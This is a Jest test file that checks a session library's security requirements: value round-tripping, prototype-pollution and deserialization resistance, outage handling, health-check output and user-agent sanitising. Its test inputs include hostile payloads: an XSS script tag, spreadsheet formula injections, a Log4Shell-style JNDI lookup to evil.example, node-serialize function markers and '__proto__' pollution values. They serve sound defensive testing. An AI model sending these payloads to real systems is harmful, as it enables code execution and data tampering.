/**
 * Security requirements that concern session data, outages, what is shown, and set-up.
 * `docs/security/requirements.md` lists them all.
 */
import { afterEach, describe, expect, it } from '@jest/globals';
import {
  SessionConfigError,
  SessionHealthIndicator,
  type SessionModuleOptions,
  SessionService,
  type SessionStore,
  SessionValueError,
  memoryStore,
} from '../../src/index.js';
import { withFaults } from '../../src/testing/index.js';
import { ADAPTERS, SECRET, type TestApp, startApp } from '../support/app.js';
import { Client } from '../support/client.js';

describe.each(ADAPTERS)('requirements on data and set-up, on %s', (adapter) => {
  const running: TestApp[] = [];
  const start = async (session: SessionModuleOptions = {}): Promise<TestApp> => {
    const app = await startApp(adapter, { session });
    running.push(app);
    return app;
  };
  const loggedIn = async (session: SessionModuleOptions = {}): Promise<Client> => {
    const client = new Client((await start(session)).url);
    await client.login('alice');
    return client;
  };
  afterEach(async () => {
    await Promise.all(running.splice(0).map((app) => app.close()));
  });

  it('S-05: values come back as they were', async () => {
    const client = await loggedIn();
    const values: Record<string, unknown> = {
      big: '9007199254740993',
      micros: 1_764_000_000_123_456,
      small: 1e-7,
      list: [],
      object: {},
      nested: { list: [[], {}], none: null },
      zero: '\u0000',
      smile: '😀',
    };
    for (const [name, value] of Object.entries(values)) {
      expect((await client.post(`/data/${name}`, { value })).status).toBe(204);
    }
    expect((await client.get('/data')).body).toEqual(values);
  });

  it('D-01: data that names a class comes back as the plain data it is', async () => {
    const client = await loggedIn();
    const hostile = [
      { $type: 'Buffer', __class__: 'x', '@class': 'java.lang.Runtime' },
      { type: 'Buffer', data: [1, 2, 3] },
      { $date: 0, $code: 'process.exit()', $oid: '0'.repeat(24) },
      { _$$ND_FUNC$$_: 'function () { throw 1 }()' },
    ];
    for (const value of hostile) {
      await client.post('/data/thing', { value });
      expect((await client.get('/data')).body).toEqual({ thing: value });
    }
  });

  it('D-02: no prototype is reached through a name or a value', async () => {
    const client = await loggedIn();
    for (const name of ['__proto__', 'constructor', 'prototype']) {
      await client.post(`/data/${name}`, { value: { isAdmin: true } });
      await client.post('/data/nested', JSON.parse(`{"value":{"${name}":{"isAdmin":true}}}`));
    }
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
    const data = (await client.get('/data')).body as Record<string, { isAdmin?: boolean }>;
    expect(data['isAdmin']).toBeUndefined();
    expect(Object.getPrototypeOf(data)).toBe(Object.prototype);
    expect((await client.get('/me')).body).toMatchObject({ userId: 'alice' });
  });

  it('D-03: data cannot change who somebody is, or for how long', async () => {
    const client = await loggedIn({ timeouts: { idle: '1h', absolute: '1h' } });
    const me = (await client.get('/me')).body;
    const before = (await client.get('/devices')).body as Record<string, unknown>[];
    const names = 'userId sid id authenticatedAt absoluteAt idleAt claims level tenant limitClass';
    for (const name of names.split(' ')) {
      await client.post(`/data/${name}`, { value: 'mallory' });
    }
    expect((await client.get('/me')).body).toEqual(me);
    const [after] = (await client.get('/devices')).body as Record<string, unknown>[];
    expect(after).toMatchObject({ id: before[0]?.['id'], createdAt: before[0]?.['createdAt'] });
    const data = (await client.get('/data')).body;
    expect(data).toEqual(Object.fromEntries(names.split(' ').map((name) => [name, 'mallory'])));
  });

  it('D-04: a field that cannot be read is absent, and nothing else suffers', async () => {
    const garbage = { text: '' };
    const inner = memoryStore();
    const store = new Proxy(inner, {
      get: (target, name) => {
        const value: unknown = Reflect.get(target, name, target);
        if (name !== 'resolve') return typeof value === 'function' ? value.bind(target) : value;
        return async (request: never): Promise<object> => {
          const reply = await target.resolve(request);
          if (reply.status !== 'active') return reply;
          return { ...reply, fields: new Map([...reply.fields, ['bad', garbage.text]]) };
        };
      },
    }) as SessionStore;
    const { app, url } = await start({ store });
    const client = new Client(url);
    await client.login('alice');
    await client.post('/data/good', { value: 'tea' });
    let unreadable = 0;
    app.get(SessionService).on('session.field-unreadable', () => void (unreadable += 1));
    for (const text of ['', '{', 'null,', '[1', '\u0000', '{"a":}', '['.repeat(200)]) {
      garbage.text = text;
      const { status, body } = await client.get('/data');
      expect(status).toBe(200);
      expect(body).toEqual({ good: 'tea' });
    }
    expect(unreadable).toBeGreaterThan(0);
  });

  it('D-05: what is too much, too deep or no data is refused before the store is asked', async () => {
    const store = withFaults(memoryStore());
    const { app } = await start({ store });
    const { session } = await app.get(SessionService).create('alice');
    const calls = { ...store.calls };
    const cycle: unknown[] = [];
    cycle.push(cycle);
    const deep = (levels: number): unknown => (levels === 0 ? 1 : [deep(levels - 1)]);
    const refused: unknown[] = [
      'x'.repeat(16_384),
      deep(33),
      NaN,
      () => 0,
      Symbol('x'),
      new Proxy({}, {}),
      cycle,
    ];
    for (const value of refused) {
      await expect(session.set({ value } as never)).rejects.toThrow(SessionValueError);
    }
    expect(store.calls).toEqual(calls);
    await session.set({ value: 'x'.repeat(16_382) } as never);
    await session.set({ value: deep(32) } as never);
    await session.set(
      Object.fromEntries(Array.from({ length: 255 }, (_, i) => [`f${i}`, i])) as never,
    );
    await expect(session.set({ last: 1 } as never)).rejects.toMatchObject({
      code: 'ERR_SESSION_TOO_LARGE',
    });
  });

  it('Q-05: a store that hangs is answered for within its deadline, for everybody', async () => {
    const store = withFaults(memoryStore());
    const client = await loggedIn({ store });
    store.plan({ resolve: { hang: 'before' } });
    const begun = Date.now();
    const answers = await Promise.all(Array.from({ length: 100 }, () => client.get('/me')));
    // One deadline of 1 s and a slow machine; one after the other they would take 100 s.
    expect(Date.now() - begun).toBeLessThan(5_000);
    for (const { status, headers } of answers) {
      expect(status).toBe(503);
      expect(headers.get('retry-after')).toBe('1');
    }
    store.plan({});
    store.release();
    expect((await client.get('/me')).status).toBe(200);
  });

  it('F-05: a failing health check names no host, key, count or cause', async () => {
    const store = withFaults(memoryStore());
    const { app } = await start({ store });
    const health = app.get(SessionHealthIndicator);
    store.plan({ all: { fail: 'before' } });
    expect(await health.isHealthy()).toEqual({
      session: { status: 'down', state: 'down', issues: ['the store does not answer'] },
    });
    store.plan({});
    expect(Object.keys((await health.isHealthy())['session'] ?? {}).toSorted()).toEqual([
      'state',
      'status',
    ]);
  });

  it('L-03: what a client says of itself is kept as a short printable label', async () => {
    const { app, url } = await start();
    const service = app.get(SessionService);
    const agents = [
      '<script>alert(1)</script>',
      '=HYPERLINK("https://evil.example")',
      'x'.repeat(8_000),
      'curl/8.5.0 \u00e9\u00ff',
      '{{7*7}} ${jndi:ldap://evil.example}',
      '+SUM(1,1)',
      '-2+3+cmd|calc',
      '@SUM(1+1)*cmd|calc',
      '\t=1+1',
      '.',
    ];
    for (const agent of agents) {
      const user = `u${agents.indexOf(agent)}`;
      const headers = { 'user-agent': agent };
      expect((await new Client(url).post('/login', { user }, headers)).status).toBe(204);
      const { device } = (await service.list(user)).sessions[0] ?? {};
      expect(device?.client ?? 'none').toMatch(/^\w[\w.+/ -]{0,63}$/);
    }
  });

  it('L-04: what users and administrators see holds no token, verifier or data', async () => {
    const { app, url } = await start();
    const client = new Client(url);
    await client.login('alice');
    await client.post('/data/secret', { value: 'only-for-the-handler' });
    const token = client.cookies.slice('__Host-sid='.length);
    const service = app.get(SessionService);
    const shown = JSON.stringify([
      (await client.get('/me')).body,
      (await client.get('/devices')).body,
      await service.list('alice'),
      await service.page(),
      await service.stats(),
      await service.explain(token),
    ]);
    expect(shown).not.toContain(token);
    expect(shown).not.toContain(token.slice(4 + 32, 4 + 75)); // the secret
    expect(shown).not.toContain('only-for-the-handler');
    expect(shown).not.toMatch(/verifier|salt|claims/);
  });

  it('G-01: a wrong name is an error at boot, and the defaults need nothing but a secret', async () => {
    await expect(start({ coookie: {} } as never)).rejects.toThrow(SessionConfigError);
    await expect(start({ cookie: { htttpOnly: false } } as never)).rejects.toThrow(
      SessionConfigError,
    );
    const client = new Client((await start()).url);
    expect((await client.login('alice')).setCookies[0]).toMatch(
      /^__Host-sid=nsk_[\w-]{96}; Path=\/; Secure; HttpOnly; SameSite=Lax$/i,
    );
  });

  it('G-02: production refuses to keep sessions in memory unless told so', async () => {
    const production = { production: true, secret: SECRET, cleanup: false } as const;
    await expect(start({ ...production, store: undefined } as never)).rejects.toThrow(
      SessionConfigError,
    );
    const small = memoryStore({ maxSessions: 2 });
    const { app } = await start({ ...production, store: small });
    const service = app.get(SessionService);
    await service.create('alice');
    await service.create('bob');
    await expect(service.create('carol')).rejects.toMatchObject({ code: 'ERR_SESSION_STORE_FULL' });
  });
});
